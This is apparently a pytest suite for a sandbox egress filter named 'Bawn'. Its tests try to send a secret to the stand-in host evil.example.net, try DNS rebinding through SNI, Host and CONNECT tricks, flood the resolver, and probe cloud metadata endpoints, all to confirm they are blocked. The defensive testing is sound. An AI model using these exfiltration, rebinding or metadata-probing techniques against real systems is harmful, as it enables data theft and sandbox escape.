# SPDX-License-Identifier: Apache-2.0
"""Denied names have addresses, and their clients get answers. Neither may become a way out, or a way to break what is allowed."""

import json

import pytest
from inside import Inside, until

OK = {"id": "ok", "action": "allow", "host": "ok.example.com", "ports": [80, 443]}

TLS = """
def tls_to(address, name, request, port=443):
    s = ssl.create_default_context().wrap_socket(socket.create_connection((address, port)), server_hostname=name)
    s.sendall(request)
    return all_of(s).decode('latin-1')
def plain_to(address, request, port=80):
    s = socket.create_connection((address, port))
    s.sendall(request)
    return all_of(s).decode('latin-1')
def lookup(name):
    return socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
"""


@pytest.fixture
def inside(net):
    net.names["later.example.com"] = ["11.0.0.10"]
    net.rules(OK)
    with Inside(net) as i:
        i.net = net
        i(TLS)
        yield i


SECRET = "hunter2-4711"


def test_what_a_denied_client_sends_goes_nowhere(inside):
    """Its request is read, answered and dropped: no lookup, no packet, whatever it speaks and however much it says."""
    request = f"POST /{SECRET} HTTP/1.1\\r\\nHost: evil.example.net\\r\\nCookie: {SECRET}\\r\\nContent-Length: 200000\\r\\n\\r\\n" + SECRET * 1000
    for ask in (f"tls_to(lookup('evil.example.net'), 'evil.example.net', b'{request}')", f"plain_to(lookup('evil.example.net'), b'{request}')"):
        answer = inside(ask)
        assert answer.startswith("HTTP/1.1 403 Bawn denied evil.example.net:") and SECRET not in answer, answer
    for port, word in ((22, "SSH-2.0-x\\r\\n"), (5432, "\\0\\0\\0\\x54\\0\\x03\\0\\0user"), (6379, "*1\\r\\n"), (3306, ""), (25, ""), (9, "anything"), (9, "")):
        inside(f"plain_to('evil.example.net', b'{word}{SECRET}', {port})")
    assert inside.net.queries() == [] and inside.net.hits() == []
    assert SECRET not in json.dumps(inside("fetch('http://bawn.internal/why')")) and SECRET not in json.dumps(inside.net.log())


def test_the_address_of_a_denied_name_is_no_other_name(inside):
    """Rebinding from inside: to say another name there, in TLS, Host or SOCKS, does not lead to that name's server."""
    denied, allowed = inside("lookup('evil.example.net')"), inside("lookup('ok.example.com')")
    assert denied.startswith("198.19.") and int(denied.split(".")[2]) >= 192 and not allowed.startswith("198.19.2")
    assert inside(f"tls_to('{denied}', 'ok.example.com', b'GET / HTTP/1.1\\r\\nHost: ok.example.com\\r\\n\\r\\n')") == "SSLError"
    for host in ("ok.example.com", "evil.example.net"):
        for ask in (f"tls_to('{denied}', 'evil.example.net', b'GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')",
                    f"plain_to('{denied}', b'GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')",
                    f"plain_to('127.0.0.1', b'GET http://{denied}/ HTTP/1.1\\r\\nHost: {denied}\\r\\n\\r\\n', 15001)",
                    f"plain_to('127.0.0.1', b'CONNECT {denied}:443 HTTP/1.1\\r\\n\\r\\n', 15001)"):
            assert inside(ask).startswith(("HTTP/1.1 403 Bawn denied", "HTTP/1.1 421 Bawn denied")), (ask, inside(ask))
    assert inside.net.queries() == [] and inside.net.hits() == []
    assert inside("get('http://ok.example.com/')") == 200


def test_the_allowed_address_is_no_denied_name(inside):
    allowed = inside("lookup('ok.example.com')")
    assert inside(f"tls_to('{allowed}', 'evil.example.net', b'GET / HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n')") == "SSLError"
    assert inside(f"plain_to('{allowed}', b'GET / HTTP/1.1\\r\\nHost: evil.example.net\\r\\nConnection: close\\r\\n\\r\\n')").startswith("HTTP/1.1 421 ")
    assert inside.net.requests() == [], "the allowed host may be dialled, but no request gets there"


def test_made_up_names_break_nothing(inside):
    """More denied names than there are addresses for: those that are allowed keep theirs, and new ones find one."""
    allowed = inside("lookup('ok.example.com')")
    found = inside("""
import struct
def ask(names):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(('198.18.0.1', 53))
    codes = {}
    for name in names:
        q = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0\\0\\x01\\0\\x01'
        s.send(q)
        a = s.recv(2000)
        codes[a[3] & 15] = codes.get(a[3] & 15, 0) + 1
    return codes
codes = ask(f'n{i}.evil.example.net' for i in range(20000))
sorted(codes.items())""")
    assert dict(found).keys() == {0, 3} and dict(found)[0] <= 16383, found
    assert inside("lookup('ok.example.com')") == allowed
    assert inside(f"plain_to('{allowed}', b'GET / HTTP/1.1\\r\\nHost: ok.example.com\\r\\nConnection: close\\r\\n\\r\\n')").startswith("HTTP/1.1 200 ")
    assert inside("lookup('another.evil.example.net')") == "gaierror"
    done = inside.net.bawn("policy", "allow", "another.evil.example.net:443", "--sandbox", inside.pid)
    assert done.rc == 0, done
    assert until(lambda: inside("lookup('another.evil.example.net')") != "gaierror")
    assert inside.net.queries() == ["A ok.example.com", "AAAA ok.example.com"]


def test_a_rule_that_comes_later_holds_at_once(inside):
    """Also for the address that the program has already, and also the other way round."""
    address = inside("lookup('later.example.com')")
    ask = f"plain_to('{address}', b'GET / HTTP/1.1\\r\\nHost: later.example.com\\r\\nConnection: close\\r\\n\\r\\n').split(' ')[1]"
    assert inside(ask) == "403" and inside.net.hits() == []
    assert inside.net.bawn("policy", "allow", "later.example.com:80", "--sandbox", inside.pid).rc == 0
    assert until(lambda: inside(ask) == "200")
    assert inside("get('http://later.example.com/')") == 200
    assert inside("get('https://later.example.com/')") == 403, "no other port"
    assert inside.net.bawn("policy", "deny", "later.example.com", "--sandbox", inside.pid).rc == 0
    assert until(lambda: inside(ask) == "403") and inside("get('http://later.example.com/')") == 403


@pytest.mark.parametrize("name", ["metadata.google.internal", "instance-data.ec2.internal", "metadata.goog", "wpad.example.org", "printer.local", "db"])
def test_probes_find_nothing(inside, name):
    """Programs ask for these to find out where they are: an address would be a yes. No hint says how to open a metadata service."""
    assert inside(f"lookup('{name}')") == "gaierror"
    why = inside("fetch('http://bawn.internal/why')")[2]
    assert name in why and ("meta" not in name or "bawn policy allow" not in why), why
    assert inside.net.queries() == []


@pytest.mark.parametrize("address", ["169.254.169.254", "127.0.0.2", "11.255.0.1"])
def test_no_hint_for_this_machine_and_its_metadata(inside, address):
    inside.net.names["leads.example.com"] = [address]
    inside.net.save_names()
    assert inside("get('http://ok.example.com/')") == 200
    inside.net.forget()
    assert inside.net.bawn("policy", "allow", "leads.example.com:80", "--sandbox", inside.pid).rc == 0
    answer = until(lambda: (a := inside("fetch('http://leads.example.com/')"))[1].get("bawn-code") == "BAWN_NET_DENIED_ADDRESS" and a)
    assert answer[0] == 403 and "bawn policy allow" not in answer[2], answer
    if address != "127.0.0.2":
        assert "bawn policy allow" not in inside(f"fetch('http://{address}/')")[2]
    assert inside.net.hits() == []


LOOP = """
import http.client
def one():
    try:
        c = http.client.HTTPConnection('evil.example.net')
        c.request('GET', '/')
        return c.getresponse().status
    except OSError as e:
        return type(e).__name__
"""


def test_a_loop_of_retries_is_slowed_down_and_blocks_nobody(inside):
    """More clients than may wait, all at once: an allowed host answers meanwhile, and each of them gets its refusal."""
    inside(LOOP)
    assert inside("[one() for i in range(12)]") == [403] * 12
    inside("""
many = []
for i in range(400):
    many.append(dial('evil.example.net', 80))
    many[-1].sendall(b'GET / HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n')""")
    assert inside("get('http://ok.example.com/')") == 200 and inside("get('https://ok.example.com/')") == 200
    assert inside("one2 = get('http://other.example.net/')\none2") == 403, "other hosts are refused at once"
    assert inside("sum(all_of(s).startswith(b'HTTP/1.1 403 Bawn denied evil.example.net:80 ') for s in many)") == 400
    assert len(inside.net.hits(kind="connect")) == 2
